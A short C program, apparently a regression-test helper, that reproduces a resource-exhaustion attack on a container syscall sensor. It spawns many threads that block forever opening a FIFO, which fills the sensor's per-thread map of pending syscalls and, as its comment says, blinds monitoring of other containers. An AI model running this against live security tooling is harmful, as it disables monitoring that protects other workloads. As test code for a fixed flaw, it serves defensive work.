/*
 * Starts N threads that each block in open(FIFO, O_WRONLY), which waits
 * for a reader that never comes: the attack that filled the sensor's old
 * per-thread map of pending syscalls and blinded every other container.
 * Prints "ready N" once they are all started, then waits.
 *
 *   fifo_block FIFO N
 */
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *fifo;

static void *blocker(void *arg)
{
	(void)arg;
	open(fifo, O_WRONLY);
	return NULL;
}

int main(int argc, char **argv)
{
	pthread_attr_t attr;
	pthread_t t;
	long i, n;

	if (argc != 3)
		return 2;
	fifo = argv[1];
	n = atol(argv[2]);
	if (mkfifo(fifo, 0600) != 0)
		return 1;
	pthread_attr_init(&attr);
	pthread_attr_setstacksize(&attr, 16384);
	for (i = 0; i < n; i++) {
		if (pthread_create(&t, &attr, blocker, NULL) != 0) {
			fprintf(stderr, "fifo_block: thread %ld: cannot start\n", i);
			return 1;
		}
	}
	printf("ready %ld\n", n);
	fflush(stdout);
	pause();
	return 0;
}
